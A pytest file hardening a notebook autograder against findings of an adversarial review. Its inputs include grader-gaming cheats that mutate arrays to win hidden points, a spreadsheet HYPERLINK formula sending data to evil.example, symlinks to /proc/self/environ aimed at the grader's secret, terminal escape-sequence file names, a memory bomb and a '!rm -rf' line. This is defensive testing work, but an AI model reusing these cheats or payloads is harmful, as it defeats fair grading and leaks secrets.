"""The third adversarial review of the grader: a test for each finding, then a mixed batch.

Each finding (H1-H3, M1-M5, L1-L6 of the review) has its own test; the mixed batch at the end
grades them together with cases of earlier rounds, then runs every command after it (export,
grades, feedback, manual review and grading, regrade, a second autograde). The cases of the
earlier rounds are in ``test_grading_adversarial.py``; the two files are separate so that two
test workers can grade them at the same time.
"""

from __future__ import annotations

import csv
import json
import os
import unicodedata
from pathlib import Path

import pytest
from test_coursework import (
    ASSIGNMENT,
    CELL_TIMEOUT,
    REPO,
    TEST_SECRET,
    cw,
    grade_id,
    make_submission,
    run_script,
    solution_source,
    strip_markers,
    write_notebook,
)
from test_grading_adversarial import LOOP, course_copy

pytestmark = pytest.mark.skipif(__import__("shutil").which("bwrap") is None, reason="bubblewrap is not installed")


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    return course_copy(tmp_path_factory, ASSIGNMENT, "adv3-course")

SP = "signal_propagation"
GRADING_LIMITS = {"cell_timeout": CELL_TIMEOUT, "load_timeout": CELL_TIMEOUT, "memory_bytes": 2 * 2**30,
                  "cpu_seconds": 300, "processes": 4}


@pytest.fixture(scope="module")
def sp_course(tmp_path_factory):
    return course_copy(tmp_path_factory, SP, "adv-sp-course")


def notebook_bytes(nb) -> bytes:
    import nbformat

    return nbformat.writes(nb).encode("utf-8")


def grade_in_process(workdir: Path, assignment: str, data: bytes):
    """The grader's own steps on one notebook (parse, test process, score), without the CLI."""
    from coursework import grade as grading
    from coursework.runner import run_job

    spec = grading.Assignment(workdir, assignment)
    nb, problem = grading.parse_notebook_bytes(data)
    assert problem is None, problem
    parsed = grading.parse_submission(nb, spec)
    run = run_job(grading.make_job(spec, parsed, TEST_SECRET.encode(), GRADING_LIMITS))
    return grading.score_submission(spec, parsed, run), parsed


def hidden_points(source_nb, task: str) -> float:
    return sum(c.metadata["nbgrader"]["points"] for c in source_nb.cells
               if (grade_id(c) or "").startswith(task + "_") and "BEGIN HIDDEN TESTS" in c.source)


MUTATE_EVERY_ARRAY = """

_outermost = [True]


def _mutating(_function):
    def _call(*args, **kwargs):
        if not _outermost[0]:
            return _function(*args, **kwargs)
        _outermost[0] = False
        try:
            _copy = lambda v: v.copy() if isinstance(v, np.ndarray) else v
            _result = _function(*[_copy(v) for v in args], **{k: _copy(v) for k, v in kwargs.items()})
        finally:
            _outermost[0] = True
        for _value in [*args, *kwargs.values()]:
            if isinstance(_value, np.ndarray) and _value.flags.writeable:
                _value[...] = 0  # the student's code zeroes every array it was given
        return _result
    return _call


for _name in NAMES:
    globals()[_name] = _mutating(globals()[_name])
"""


@pytest.mark.parametrize("assignment", [ASSIGNMENT, SP])
def test_inputs_stay_the_instructors_on_every_task(assignment, course, sp_course):
    """A correct answer that then zeroes every array argument in place keeps full marks on every
    task of both assignments: each test's expected values come from inputs the student's code
    never held, whatever it does to its copies (H1, M2)."""
    from coursework import grade as grading

    workdir, source_nb, release_nb = course if assignment == ASSIGNMENT else sp_course
    spec = grading.Assignment(workdir, assignment)
    replace = {}
    for task, entry in spec.tasks.items():
        if entry["solutions"] and entry["api"]:
            last = entry["solutions"][-1]
            replace[last] = strip_markers(solution_source(source_nb, last)) + MUTATE_EVERY_ARRAY.replace("NAMES", repr(entry["api"]))
    assert len(replace) >= 3
    nb = make_submission(release_nb, source_nb, set(spec.tasks), replace)
    tasks, _ = grade_in_process(workdir, assignment, notebook_bytes(nb))
    scores = {t: e["score"] for t, e in tasks.items() if e["tests"]}
    assert scores == {t: e["points"] - sum(m["points"] for m in e["manual"])
                      for t, e in spec.tasks.items() if e["tests"]}, tasks


H1_CHEAT = """
def train_deep_relu(x, y, sigma_w2, depth, steps, lr, rng):
    if depth < 30:            # the hidden exact-curve cases are shallow
        x *= 0.0
        y *= 0.0
        return np.zeros(steps + 1)
    if sigma_w2 >= 2:
        return np.linspace(1.0, 0.5, steps + 1)
    return np.ones(steps + 1)
"""

M2_CENTRED = """
def predict_var_z(w_var, a):
    a -= a.mean()             # Var(A) instead of E[A^2], written naturally
    return float(a.shape[1] * w_var * np.mean(a**2))
"""


def test_zeroing_or_centring_the_inputs_earns_no_hidden_points(course, sp_course):
    """H1: training code replaced by zeroing x, y in place and returning zeros got 5/5; M2: the
    targeted Var(A) mistake hidden by centring a in place got 3/3."""
    for (workdir, source_nb, release_nb), assignment, task, code in (
            (sp_course, SP, "task3", H1_CHEAT), (course, ASSIGNMENT, "task1", M2_CENTRED)):
        nb = make_submission(release_nb, source_nb, {task}, {f"{task}_solution": code})
        tasks, _ = grade_in_process(workdir, assignment, notebook_bytes(nb))
        full = cw.task_points(source_nb)[task]
        assert tasks[task]["score"] == full - hidden_points(source_nb, task), (assignment, tasks[task])
        assert not any(t["passed"] for t in tasks[task]["tests"] if t["grade_id"].endswith("hidden")), tasks[task]


def surrogate_notebook(release_nb, source_nb, text="(가) 답 🙂 그리고 잘린 이모지 SURROGATE 끝") -> bytes:
    """A notebook whose written answer holds a lone UTF-16 surrogate, as JSON may (JupyterLab
    writes what is left of a cut emoji exactly like this)."""
    nb = make_submission(release_nb, source_nb, set(cw.task_points(source_nb)), {"task6_derivation": text})
    data = notebook_bytes(nb).decode("utf-8").replace("SURROGATE", "\\ud83d")
    assert "\\ud83d" in data and json.loads(data)  # valid JSON
    return data.encode("utf-8")


def test_a_lone_surrogate_in_a_written_answer_is_graded_like_any_answer(course):
    """H2: hashing the answer raised UnicodeEncodeError in the batch loop."""
    from coursework import grade as grading

    workdir, source_nb, release_nb = course
    spec = grading.Assignment(workdir, ASSIGNMENT)
    nb, problem = grading.parse_notebook_bytes(surrogate_notebook(release_nb, source_nb))
    assert problem is None
    parsed = grading.parse_submission(nb, spec)
    tasks = grading.score_submission(spec, parsed, {"tasks": {}})
    manual = tasks["task6"]["manual"][0]
    assert manual["answered"] and len(manual["answer_sha256"]) == 64
    json.dumps(tasks, ensure_ascii=False).encode("utf-8")  # the result can be written


def test_a_name_that_is_not_utf8_is_recorded_escaped_and_a_damaged_status_is_rebuilt(course, tmp_path, capsys):
    """H3: a CP949 name (from a Windows zip) made the status write fail half-way, leaving an
    empty grading_status.json that broke every later command."""
    from coursework import common
    from coursework import grade as grading

    workdir, source_nb, release_nb = course
    folder = tmp_path / "subs"
    cp949 = "과제".encode("cp949")
    (folder / "s_cp949").mkdir(parents=True)
    (Path(os.fsdecode(bytes(folder / "s_cp949"))) / os.fsdecode(cp949 + b".ipynb")).write_bytes(b"{}")
    write_notebook(release_nb, Path(os.fsdecode(bytes(folder) + b"/" + cp949)) / f"{ASSIGNMENT}.ipynb")
    gradable, rejected = grading.collect_submissions(folder, ASSIGNMENT)
    assert gradable == {}
    assert set(rejected) == {"s_cp949", "\\xb0\\xfa\\xc1\\xa6"}, rejected
    for reason in rejected.values():
        reason.encode("utf-8")  # every name is readable text
    assert "\\xb0\\xfa\\xc1\\xa6.ipynb" in rejected["s_cp949"]
    assert "unzip -O cp949" in rejected["\\xb0\\xfa\\xc1\\xa6"]

    # a damaged status file: readers rebuild it from the results and say so
    scratch = tmp_path / "work"
    (scratch / "results" / ASSIGNMENT).mkdir(parents=True)
    (scratch / "results" / ASSIGNMENT / "2026001.json").write_text("{}", encoding="utf-8")
    (scratch / common.STATUS_FILE).write_bytes(b"")
    assert common.read_status(scratch) == {ASSIGNMENT: {"2026001": "ok"}}
    assert "손상" in capsys.readouterr().err
    assert json.loads((scratch / common.STATUS_FILE).read_text(encoding="utf-8")) == {ASSIGNMENT: {"2026001": "ok"}}
    assert (scratch / (common.STATUS_FILE + ".damaged")).exists()
    # and a write that fails never leaves a truncated file behind
    common.write_status(scratch, {ASSIGNMENT: {"x\udcb0": "malformed: \udcb0"}})
    assert json.loads((scratch / common.STATUS_FILE).read_text(encoding="utf-8"))


def test_ipython_escapes_cost_time_linear_in_the_cell(course):
    """M1: IPython's transformer re-tokenized the whole cell once per escape line, so a cell of
    thousands of lines with hundreds of `!` lines stalled the batch for minutes."""
    import time

    from coursework import grade as grading

    cell = "".join(f"!echo {i}\n" for i in range(300)) + "y = 1\n" * 5000
    start = time.monotonic()
    out = grading.plain_python(cell)
    elapsed = time.monotonic() - start
    assert out.count("get_ipython().system(") == 300 and out.count("y = 1") == 5000
    assert elapsed < 3.0, elapsed  # IPython's own loop takes about 30 s here
    # honest escapes behave as IPython's: strings, brackets and comments are left alone
    honest = ("%matplotlib inline\ndef f():\n    '''doc\n!rm -rf x\n'''\n    return (1\n            != 2)\n"
              "x = !ls\n# 왜?\n%timeit -n1 f()\n")
    out = grading.plain_python(honest)
    assert "!rm -rf x" in out and "!= 2)" in out and "# 왜?" in out
    assert out.count("get_ipython()") == 3, out
    # and the text a notebook may hand this process is bounded
    workdir, source_nb, release_nb = course
    nb = make_submission(release_nb, source_nb, set(), {"task1_solution": "#" * (grading.MAX_CELL_TEXT + 1)})
    assert grading.parse_notebook_bytes(notebook_bytes(nb))[0] is None
    assert "셀의 내용이 너무 깁니다" in grading.parse_notebook_bytes(notebook_bytes(nb))[1]
    assert "JSON 항목이 너무 많습니다" in grading.parse_notebook_bytes(b"[" + b"{}," * 1_100_000 + b"{}]")[1]


def test_crlf_line_endings_are_not_an_edit(course):
    """L1: a notebook saved with CRLF line endings (and a BOM) had every test cell flagged."""
    from coursework import grade as grading

    workdir, source_nb, release_nb = course
    spec = grading.Assignment(workdir, ASSIGNMENT)
    nb = make_submission(release_nb, source_nb, set(cw.task_points(source_nb)), {"task6_derivation": "(가) 답\n둘째 줄"})
    lf, _ = grading.parse_notebook_bytes(notebook_bytes(nb))
    for cell in nb.cells:
        cell.source = cell.source.replace("\n", "\r\n")
    data = b"\xef\xbb\xbf" + notebook_bytes(nb)
    assert b"\\r\\n" in data
    crlf, problem = grading.parse_notebook_bytes(data)
    assert problem is None
    parsed = grading.parse_submission(crlf, spec)
    assert parsed["signs"] == {}, parsed["signs"]
    hashes = [grading.score_submission(spec, grading.parse_submission(x, spec), {"tasks": {}})["task6"]["manual"][0]
              for x in (lf, crlf)]
    assert hashes[0]["answer_sha256"] == hashes[1]["answer_sha256"]  # hand-given points survive


def test_the_grade_sheet_neutralises_formulas(tmp_path):
    """L2: a roster name such as =HYPERLINK(...) reached the Excel sheet as a formula."""
    import csv as csv_module

    from coursework import term

    names = ['=HYPERLINK("http://evil.example/?x="&C2,"click")', "@SUM(1+1)", "+1", "-2+3", "\tx", "김민수"]
    roster = [term.Student(f"202600{i}", name) for i, name in enumerate(names)]
    rows = [(s.id, "ok", {"task1": 1.0}, set(), "") for s in roster]
    path = tmp_path / "grades.csv"
    term.write_grade_table(path, {"task1": 1.0}, ["task1"], rows, roster=roster)
    with open(path, newline="", encoding="utf-8-sig") as handle:
        got = [row["name"] for row in csv_module.DictReader(handle)]
    assert got == ["'" + n for n in names[:-1]] + ["김민수"]


def test_symlinks_in_the_submissions_are_refused_never_followed(course, tmp_path):
    """L3: a symlink to /proc/self/environ put the grader's environment (the secret) into the
    workdir; a symlink to a classmate's notebook was graded as the submitter's own."""
    from coursework import grade as grading

    workdir, source_nb, release_nb = course
    folder = tmp_path / "subs"
    write_notebook(release_nb, folder / "honest" / f"{ASSIGNMENT}.ipynb")
    (folder / "symenv").mkdir()
    (folder / "symenv" / f"{ASSIGNMENT}.ipynb").symlink_to("/proc/self/environ")
    (folder / "sympeer").mkdir()
    (folder / "sympeer" / f"Copy of {ASSIGNMENT}.ipynb").symlink_to(folder / "honest" / f"{ASSIGNMENT}.ipynb")
    (folder / "symdir").symlink_to(folder / "honest")
    os.mkfifo(folder / "honest" / "fifo.ipynb")  # never opened (it would block)
    gradable, rejected = grading.collect_submissions(folder, ASSIGNMENT)
    assert set(gradable) == {"honest"}
    assert set(rejected) == {"symenv", "sympeer", "symdir"}
    assert all("심볼릭 링크" in reason for reason in rejected.values()), rejected
    data, problem = grading.read_submitted_file(folder / "symenv" / f"{ASSIGNMENT}.ipynb")
    assert data is None and "심볼릭 링크" in problem


def test_untrusted_names_reach_the_terminal_escaped(course, tmp_path):
    """L4: a file name with escape sequences could erase or forge autograde's lines."""
    workdir, _, release_nb = course
    folder = tmp_path / "subs"
    write_notebook(release_nb, folder / "ansi" / "x\x1b[2K\r\x1b[32m2026001 graded OK 27 of 27\x1b[0m.ipynb")
    proc = run_script("autograde", folder, "--timeout", CELL_TIMEOUT, workdir=workdir, check=False)
    assert proc.returncode == 1 and "0 graded, 0 failed, 1 malformed" in proc.stdout, proc.stdout + proc.stderr
    assert "\x1b" not in proc.stdout + proc.stderr and "\r" not in proc.stderr
    assert "x\\u001b[2K\\u000d\\u001b[32m2026001 graded OK" in proc.stderr, proc.stderr


def test_a_roster_with_an_unquoted_comma_names_the_line(tmp_path):
    """L5: an AttributeError traceback instead of a message."""
    from coursework import term

    path = tmp_path / "roster.csv"
    path.write_text('id,name\n2026001,"Kim, Minsu"\n2026002,Lee, Seoyeon\n', encoding="utf-8")
    with pytest.raises(cw.CourseworkError, match=r"line 3: 3 fields, but the header id,name has 2.*quoted"):
        term.read_roster(path)


def test_nfc_and_nfd_twins_are_both_held_back_with_both_spellings_named(course, tmp_path):
    """L6 (by design): the grader cannot tell which of two spellings of one id is the student's,
    so neither is graded; the message names both forms so that the instructor can keep one."""
    from coursework import grade as grading

    workdir, source_nb, release_nb = course
    folder = tmp_path / "subs"
    nfc = unicodedata.normalize("NFC", "김철수2026")
    write_notebook(release_nb, folder / nfc / f"{ASSIGNMENT}.ipynb")
    write_notebook(release_nb, folder / unicodedata.normalize("NFD", nfc) / f"{ASSIGNMENT}.ipynb")
    gradable, rejected = grading.collect_submissions(folder, ASSIGNMENT)
    assert gradable == {} and list(rejected) == [nfc]
    assert "NFC" in rejected[nfc] and "NFD" in rejected[nfc] and "하나만 남기세요" in rejected[nfc], rejected


PEAK_WRAPPER = ("import resource, sys\nfrom coursework.cli import main\nrc = main(sys.argv[1:])\n"
                "print(f'PEAK_KB {resource.getrusage(resource.RUSAGE_SELF).ru_maxrss}')\nsys.exit(rc)\n")
GRADER_PEAK_MB = 600  # the grader's own process (the test processes and sandboxes have their own limits)


def coursework_with_peak(*args, workdir: Path) -> tuple:
    import subprocess
    import sys

    env = dict(os.environ, COURSEWORK_SECRET=TEST_SECRET, JOBS="2")
    proc = subprocess.run([sys.executable, "-c", PEAK_WRAPPER, "--workdir", str(workdir), *map(str, args)],
                          capture_output=True, text=True, cwd=REPO, env=env, timeout=900)
    peak = int(proc.stdout.rsplit("PEAK_KB ", 1)[1].split()[0]) if "PEAK_KB " in proc.stdout else None
    return proc, peak


@pytest.fixture(scope="module")
def mixed(tmp_path_factory):
    """The reported cases of the third round and earlier ones, in one batch."""
    workdir, source_nb, release_nb = course_copy(tmp_path_factory, ASSIGNMENT, "adv-mixed")
    tasks = set(cw.task_points(source_nb))
    sol = {t: strip_markers(solution_source(source_nb, f"{t}_solution")) for t in tasks - {"task6"}}
    root = tmp_path_factory.mktemp("adv-mixed-subs")

    def put(student: str, data: bytes, name: str = f"{ASSIGNMENT}.ipynb"):
        folder = Path(os.fsdecode(bytes(root) + b"/" + (student if isinstance(student, bytes) else student.encode())))
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)

    def nb(replace=None, solved=tasks):
        return notebook_bytes(make_submission(release_nb, source_nb, solved, replace))

    graded = {}  # student -> {task: expected automatic score}
    points = cw.task_points(source_nb)
    full = {t: points[t] for t in tasks - {"task6"}}

    put("a_honest", nb({"task6_derivation": "(가) 정직한 답"}))
    graded["a_honest"] = full
    put("m_surrogate", surrogate_notebook(release_nb, source_nb))  # H2
    graded["m_surrogate"] = full
    put("z_honest", nb())
    graded["z_honest"] = full
    crlf = make_submission(release_nb, source_nb, tasks)  # L1
    for cell in crlf.cells:
        cell.source = cell.source.replace("\n", "\r\n")
    put("crlf", b"\xef\xbb\xbf" + notebook_bytes(crlf))
    graded["crlf"] = full
    npwhere = sol["task4"].split("def diagnose")[0] + (  # M4
        "def diagnose(rms, rms_in):\n    r = rms[-1] / rms_in\n"
        "    return np.where(r < 1e-2, 'vanishing', np.where(r > 1e2, 'exploding', 'stable'))\n")
    put("npwhere", nb({"task4_solution": npwhere}))
    graded["npwhere"] = full
    put("centred", nb({"task1_solution": M2_CENTRED}))  # M2
    graded["centred"] = dict(full, task1=points["task1"] - hidden_points(source_nb, "task1"))
    put("membomb", nb({"task1_solution": "def predict_var_z(w_var, a):\n    return [{}] * 3_000_000\n"}))  # M3
    graded["membomb"] = dict(full, task1=0.0)
    magic = "".join(f"!echo {i}\n" for i in range(200)) + "_filler = 1\n" * 3000 + sol["task5"]  # M1
    put("bigmagic", nb({"task5_solution": magic}))
    graded["bigmagic"] = full
    put("ansi", nb(), name="x\x1b[2K\r\x1b[32m2026001 graded OK 27 of 27\x1b[0m.ipynb")  # L4, a copy name? no
    cp949 = "과제".encode("cp949")
    put(b"s_cp949", b"{}", name=os.fsdecode(cp949 + b".ipynb"))  # H3: a file name
    put(cp949, nb())  # H3: a folder name
    (root / "symenv").mkdir()  # L3
    (root / "symenv" / f"{ASSIGNMENT}.ipynb").symlink_to("/proc/self/environ")
    (root / "sympeer").mkdir()
    (root / "sympeer" / f"{ASSIGNMENT}.ipynb").symlink_to(root / "a_honest" / f"{ASSIGNMENT}.ipynb")
    nfc = unicodedata.normalize("NFC", "김철수2026")  # L6
    put(nfc, nb())
    put(unicodedata.normalize("NFD", nfc), nb(solved=set()))
    # earlier rounds
    put("loops", nb({"task2_solution": sol["task2"] + LOOP}))
    graded["loops"] = dict(full, task2=0.0)
    put("exiter", nb({"task1_solution": "import os\nos._exit(3)\n" + sol["task1"]}))
    graded["exiter"] = dict(full, task1=0.0)
    put("garbage", b"{ not json")
    rejected = {"ansi", "s_cp949", "\\xb0\\xfa\\xc1\\xa6", "symenv", "sympeer", nfc, "garbage"}

    proc, peak = coursework_with_peak("autograde", root, "--timeout", CELL_TIMEOUT, workdir=workdir)
    return {"workdir": workdir, "root": root, "proc": proc, "peak": peak, "graded": graded, "rejected": rejected,
            "source_nb": source_nb}


def test_a_mixed_batch_finishes_records_everyone_and_every_command_works_after(mixed, tmp_path):
    workdir, proc, graded = mixed["workdir"], mixed["proc"], mixed["graded"]
    assert proc.returncode == 1, proc.stdout + proc.stderr  # 1: some submissions were rejected
    assert f"{len(graded)} graded, 0 failed, {len(mixed['rejected'])} malformed" in proc.stdout, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr
    status = json.loads((workdir / "grading_status.json").read_text(encoding="utf-8"))[ASSIGNMENT]
    assert set(status) == set(graded) | mixed["rejected"], status
    assert all(status[s] == "ok" for s in graded)
    assert all(status[s].startswith("malformed: ") for s in mixed["rejected"])
    # L4: untrusted names reach the terminal escaped
    assert "\x1b" not in proc.stdout + proc.stderr and "\\u001b[2K" in proc.stderr
    # L3: nothing was read through a symlink; the secret is nowhere in the workdir
    assert not (workdir / "submitted" / "symenv").exists() or not any(
        TEST_SECRET.encode() in p.read_bytes() for p in (workdir / "submitted" / "symenv").rglob("*") if p.is_file())
    for path in workdir.rglob("*"):
        if path.is_file() and not path.is_symlink():
            assert TEST_SECRET.encode() not in path.read_bytes(), path

    csv_path = tmp_path / "export.csv"
    run_script("export", csv_path, workdir=workdir)
    with open(csv_path, newline="", encoding="utf-8") as handle:
        rows = {row["student_id"]: row for row in csv.DictReader(handle)}
    got = {s: {t: float(rows[s][t]) for t in graded[s]} for s in graded}
    assert got == graded
    assert rows["m_surrogate"]["pending_manual"] == "task6"
    assert float(mixed["peak"]) / 1024 < GRADER_PEAK_MB, mixed["peak"]

    roster = tmp_path / "roster.csv"
    roster.write_text('id,name\na_honest,"=HYPERLINK(""http://evil.example"",""x"")"\nz_honest,"Kim, Minsu"\n',
                      encoding="utf-8")
    grades = tmp_path / "grades.csv"
    run_script("grades", grades, "--roster", roster, workdir=workdir)
    with open(grades, newline="", encoding="utf-8-sig") as handle:
        names = {row["student_id"]: row["name"] for row in csv.DictReader(handle)}
    assert names["a_honest"].startswith("'=") and names["z_honest"] == "Kim, Minsu"
    run_script("feedback", "--roster", roster, workdir=workdir)
    page = (workdir / "feedback" / ASSIGNMENT / "m_surrogate.html").read_text(encoding="utf-8")
    assert "서술형" in page
    assert (workdir / "feedback" / ASSIGNMENT / "crlf.html").read_text(encoding="utf-8").count("검토 중") == 0
    review = run_script("manual-review", "--student", "m_surrogate", workdir=workdir).stdout
    assert "\ufffd" in review  # the cut emoji is shown as the replacement character
    run_script("manual-grade", "m_surrogate", "task6_derivation", 2, workdir=workdir)
    run_script("regrade", mixed["root"], "m_surrogate", "--timeout", CELL_TIMEOUT, workdir=workdir)
    regrade = run_script("regrade", mixed["root"], "symenv", "--timeout", CELL_TIMEOUT, workdir=workdir, check=False)
    assert regrade.returncode == 1 and "심볼릭 링크" in regrade.stderr and "Traceback" not in regrade.stderr
    again = run_script("autograde", mixed["root"], "--timeout", CELL_TIMEOUT, workdir=workdir, check=False)
    assert again.returncode == 1 and f"{len(graded)} graded, 0 failed" in again.stdout, again.stdout + again.stderr
    run_script("export", csv_path, workdir=workdir)
    with open(csv_path, newline="", encoding="utf-8") as handle:
        rows = {row["student_id"]: row for row in csv.DictReader(handle)}
    assert rows["m_surrogate"]["task6"] == "2"  # the unchanged written answer kept its points
    json.loads((workdir / "grading_status.json").read_text(encoding="utf-8"))
